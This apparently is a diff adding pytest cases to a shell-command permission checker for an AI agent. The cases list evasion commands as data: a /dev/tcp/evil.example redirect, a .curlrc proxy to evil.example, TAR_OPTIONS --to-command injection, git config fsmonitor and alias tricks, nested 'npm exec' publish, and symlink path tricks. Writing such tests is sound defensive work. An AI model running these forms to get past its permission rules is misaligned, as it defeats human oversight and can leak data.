@@ -166,7 +166,21 @@ http_proxy=evil.example python y.py
         ("docker run", "docker run -it image", "deny"),
         ("docker run", "docker --log-level debug run image", "deny"),
         ("docker run", "docker compose up", "ask"),
-        ("npm publish", "npm run publish", "allow"),
+        ("git push", "git config core.fsmonitor 'git push'", "ask"),
+        ("git push", "git config alias.p push", "ask"),
+        ("git push", "git config", "ask"),
+        ("git push", "git config $x", "ask"),
+        ("git push", "git config --get user.name", "allow"),
+        ("git push", "git init", "allow"),
+        ("git push", "git init --template=x", "ask"),
+        ("npm publish", "npm run publish", "ask"),
+        ("npm publish", "npm t", "ask"),
+        ("npm publish", "npm ls", "allow"),
+        ("uv publish", "uv run uv publish", "ask"),
+        ("uv publish", "uv lock", "allow"),
+        ("docker push", "docker exec box docker push", "ask"),
+        ("go test", "go build ./...", "allow"),
+        ("go test", "go build -toolexec x ./...", "ask"),
         ("npm publish", "npm publish", "deny"),
         ("npm test", "npm t", "deny"),
         ("npm install x", "npm i x", "deny"),
@@ -183,6 +197,14 @@ def test_a_denied_subcommand_is_found_by_its_position(
     denied: str, command: str, expected: str
 ) -> None:
     assert judged(all_but(command=denied), command=command).effect == expected
+
+
+def test_what_a_trusted_program_runs_is_looked_at_too() -> None:
+    rules = [Rule("allow", command="npm *"), Rule("deny", command="npm publish")]
+    assert judged(rules, command="npm run publish").effect == "allow"
+    hidden = judged(rules, command="npm exec -- npm --silent publish")
+    assert hidden.effect == "ask"
+    assert "'npm publish' stands further on" in hidden.reason
 
 
 def test_a_doubt_says_why_there_is_one() -> None:
@@ -571,3 +593,142 @@ async def test_the_model_is_told_why_the_person_was_asked() -> None:
 def test_an_unknown_kind_is_refused(wrong: dict[str, Any]) -> None:
     with pytest.raises(ValueError, match="must be one of"):
         Rule("allow", **wrong)
+
+
+# ── what one command changes for another ──────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("mv many z; cat z/x/key", "ask"),
+        ("cat z/x/key; mv many z", "ask"),
+        ("mv many z; cat z", "allow"),
+        ("mv many z; cat many/x", "allow"),
+        ("mv many z; cat notes.md", "allow"),
+        ("mv -t z many; cat z/many/x", "ask"),
+        ("mv -t z many; cat many/x", "allow"),
+        ("mv many z; cat < z/x/key", "ask"),
+        ("mv many z; cd z/x; cat key", "ask"),
+        ("mv many z; mv z/a b", "ask"),
+        ("cp many z; cat z/x", "allow"),
+        ("cp -r many z; cat z/x", "ask"),
+        ("cp -s notes.md z; cat z/x", "ask"),
+        ("ln -s many z; cat z/x", "ask"),
+        ("tar -xf a.tar; cat b/c", "ask"),
+        ("tar -xf a.tar b; cat d/e", "ask"),
+        ("tar -xf a.tar -C many; cat many/c", "ask"),
+        ("tar -cf a.tar many; cat b/c", "allow"),
+        ("tar -xf a.tar", "allow"),
+    ],
+)
+def test_a_path_through_what_was_moved_may_lead_anywhere(command: str, expected: str) -> None:
+    Path("many").mkdir()
+    judgement = judged(all_but(path="/srv/elsewhere"), command=command)
+    assert judgement.effect == expected
+    assert expected == "allow" or "links may have come to" in judgement.reason
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("curl https://good.example/", "allow"),
+        ("echo x > .curlrc; curl https://good.example/", "ask"),
+        ("curl https://good.example/; echo x > .curlrc", "ask"),
+        ("cp notes.md .config/curlrc; curl https://good.example/", "ask"),
+        ("cp notes.md .config/curlrc; curl -q https://good.example/", "allow"),
+        ("cp notes.md .config/curlrc; curl -qs https://good.example/", "allow"),
+        ("cp notes.md .config/curlrc; curl --disable https://good.example/", "ask"),
+        ("cp notes.md .config/curlrc; curl -s -q https://good.example/", "ask"),
+        ("echo x > .jq; jq . notes.md", "ask"),
+        ("echo x > .jq; grep . notes.md", "allow"),
+        ("curl", "allow"),
+    ],
+)
+@pytest.mark.parametrize("denied", [{"path": "/srv/elsewhere"}, {"host": "evil.example"}])
+def test_a_file_of_settings_that_is_written_is_unclear(
+    monkeypatch: pytest.MonkeyPatch, command: str, expected: str, denied: dict[str, str]
+) -> None:
+    monkeypatch.setenv("HOME", str(Path.cwd()))
+    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
+    assert judged(all_but(**denied), command=command).effect == expected
+
+
+def test_a_file_of_settings_that_lies_there_is_unclear(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", str(Path.cwd()))
+    Path(".curlrc").write_text("proxy = evil.example\n")
+    why = judged(all_but(host="evil.example"), command="curl https://good.example/").reason
+    assert why.endswith(f"curl reads {Path.cwd() / '.curlrc'}")
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("TAR_OPTIONS=--to-command=x tar -xf a.tar", "ask"),
+        ("export TAR_OPTIONS=--to-command=x; tar -xf a.tar", "ask"),
+        ("env GREP_OPTIONS=-r grep x notes.md", "ask"),
+        ("LANG=C grep x notes.md", "allow"),
+        ("OTHER=x grep x notes.md", "allow"),
+        ("TAR_OPTIONS=--to-command=x true", "allow"),
+    ],
+)
+@pytest.mark.parametrize("denied", [{"path": "/srv/elsewhere"}, {"command": "rm"}])
+def test_a_variable_that_a_known_program_reads_is_unclear(
+    command: str, expected: str, denied: dict[str, str]
+) -> None:
+    assert judged(all_but(**denied), command=command).effect == expected
+
+
+def test_a_redirection_to_an_unknown_place_may_be_a_connection() -> None:
+    commands = {
+        "x=/dev/tcp/evil.example/80; cat < $x": "ask",
+        'read -r x; : > "$x"': "ask",
+        "echo x > /$x": "ask",
+        "echo x > $x.txt": "ask",
+        "echo x > out/$x.txt": "allow",
+        'echo x > "$PWD/y"': "ask",
+        "echo x > ~/y": "allow",
+    }
+    found = {c: judged(all_but(host="evil.example"), command=c).effect for c in commands}
+    assert found == commands
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("cp notes.md other", "deny"),
+        ("cp a.md notes.md other/", "deny"),
+        ("cp -t other notes.md", "deny"),
+        ("cp ../notes.md other/.", "deny"),
+        ("cp a.md other", "allow"),
+        ("curl -O https://good.example/x", "ask"),
+        ("curl --remote-name https://good.example/x", "ask"),
+        ("curl -o x https://good.example/x", "allow"),
+        ("diff . many", "ask"),
+        ("grep -d recurse x .", "ask"),
+    ],
+)
+def test_names_that_no_word_shows_are_seen(command: str, expected: str) -> None:
+    assert judged(all_but(path="other/notes.md"), command=command).effect == expected
+
+
+def test_all_of_a_rule_has_to_be_doubted() -> None:
+    """What is certain of its host outweighs what is unclear of its path."""
+    rules = all_but(path="private", host="evil.example")
+    assert judged(rules, command="cat $x").effect == "allow"
+    assert judged(rules, command="make").effect == "ask"
+    assert judged(rules, command="curl evil.example").effect == "allow"
+    assert judged(rules, command="curl -o $x evil.example").effect == "ask"
+
+
+def test_a_word_that_only_running_would_tell_is_in_no_pattern() -> None:
+    rules = [Rule("allow", command="cat * z")]
+    assert judged(rules, command="cat y z").effect == "allow"
+    for command in ("cat $x z", "cat y* z", "cat ~ z"):
+        assert judged(rules, command=command).effect == "ask", command
+
+
+def test_a_reason_names_the_arguments_of_its_rule() -> None:
+    rules = [Rule("allow"), Rule("deny", tool="shell", arguments={"command": "*x*"})]
+    why = judged(rules, command="echo x").reason
+    assert why == "a rule denies tool 'shell', command '*x*': 'echo x'"
